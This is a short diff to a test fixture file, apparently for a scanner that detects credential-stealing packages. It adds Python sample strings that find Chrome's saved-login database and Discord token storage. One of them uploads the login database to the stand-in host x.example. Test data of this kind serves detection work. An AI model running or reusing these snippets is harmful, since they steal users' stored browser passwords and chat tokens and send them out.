@@ -17,6 +17,10 @@ let indicatorCredentialFixtures = RuleFixtures(
         .browserSecrets: pythonPackage(
             "import os\nroot = os.getenv('LOCALAPPDATA')\np = root + '\\\\Google\\\\Chrome\\\\User Data'\n"
                 + "db = p + '\\\\Default\\\\Login Data'"),
+        .storedSecretsSent: pythonPackage(
+            "import os, requests\np = os.getenv('LOCALAPPDATA') + '\\\\Google\\\\Chrome\\\\User Data'\n"
+                + "db = p + '\\\\Default\\\\Login Data'\nrequests.post('https://x.example', files={'a': open(db, 'rb')})"
+        ),
         .chatTokens: pythonPackage(
             "import os\na = os.getenv('APPDATA')\npaths = [a + '\\\\discordcanary', a + '\\\\discordptb']\n"
                 + "tail = '\\\\Local Storage\\\\leveldb'"),
